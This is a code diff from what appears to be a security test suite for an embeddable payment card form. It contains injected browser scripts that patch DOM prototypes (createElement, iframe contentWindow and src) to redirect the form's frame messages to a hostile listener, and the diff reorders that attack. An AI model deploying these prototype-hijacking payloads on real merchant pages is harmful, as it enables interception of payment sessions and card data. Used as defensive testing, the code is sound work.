@@ -46,15 +46,12 @@ const HANDED: Record<string, (there: string) => string> = {
       }
       return made;
     };
-    addEventListener('DOMContentLoaded', () => { Document.prototype.createElement = createElement; });`,
+    addEventListener('load', () => setTimeout(() => { Document.prototype.createElement = createElement; }));`,
   "another frame's window": there => `
     const {get} = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'contentWindow');
     Object.defineProperty(HTMLIFrameElement.prototype, 'contentWindow', {get() {
       return get.call((this.getRootNode() !== document && document.querySelector('#other')) || this);
-    }});
-    addEventListener('DOMContentLoaded', () => {
-      document.body.append(Object.assign(document.createElement('iframe'), {id: 'other', src: '${there}'}));
-    });`,
+    }});`,
   'an address that is set to another': there => `
     const {set} = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'src');
     Object.defineProperty(HTMLIFrameElement.prototype, 'src', {set() { set.call(this, '${there}'); }});`,
@@ -66,9 +63,12 @@ const handed = ([name, patch]: [string, (there: string) => string]): Attack => (
   run: async attempt => {
     const {tab, processor, merchantPage, loot} = attempt;
     const {token} = await attempt.session();
-    const before = `<script>${patch(listening(attempt))}</script>`;
-    const element = `<florin-card-form session="${token}"></florin-card-form>`;
-    await tab.goto(merchantPage(before + script(processor) + element));
+    const there = listening(attempt);
+    // Not before the stranger's page listens.
+    const html = `<iframe id="other" src="${there}"></iframe><script>addEventListener('load', () => {
+      document.body.insertAdjacentHTML('beforeend', '<florin-card-form session="${token}"></florin-card-form>');
+    });${patch(there)}</script>${script(processor)}`;
+    await tab.goto(merchantPage(html));
     return soon(() => loot.some(text => text.includes('heard') && text.includes('connect')), attempt);
   },
 });
